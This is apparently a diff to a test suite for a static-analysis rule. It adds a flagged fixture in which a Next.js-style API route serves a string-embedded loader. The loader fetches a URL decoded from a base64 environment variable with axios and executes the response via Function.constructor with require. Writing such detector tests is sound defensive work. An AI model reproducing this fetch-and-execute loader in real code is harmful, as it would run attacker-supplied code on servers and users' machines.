@@ -29,6 +29,24 @@ ruleTest(rule, {
   ],
   flagged: [
     {
+      name: 'loader embedded in a template literal that a route serves or writes out',
+      file: 'pages/api/2fa.ts',
+      code: [
+        'export default function handler(req: any, res: any) {',
+        '  const innerScript = `',
+        "const axios = require('axios');",
+        'const run = async () => {',
+        '  const s = (await axios.get(Buffer.from(process.env.K, "base64").toString())).data.cookie;',
+        "  const handler = new (Function.constructor)('require', s);",
+        '  handler(require);',
+        '};',
+        'run();`;',
+        '  res.send(innerScript);',
+        '}',
+      ].join('\n'),
+      findings: [{ line: 6, message: /^In a script embedded in a string literal: new \(Function\.constructor\)/ }],
+    },
+    {
       name: 'lure loader: base64 env URL, axios, Function.constructor',
       file: 'server/utils/bootstrap.js',
       code: [
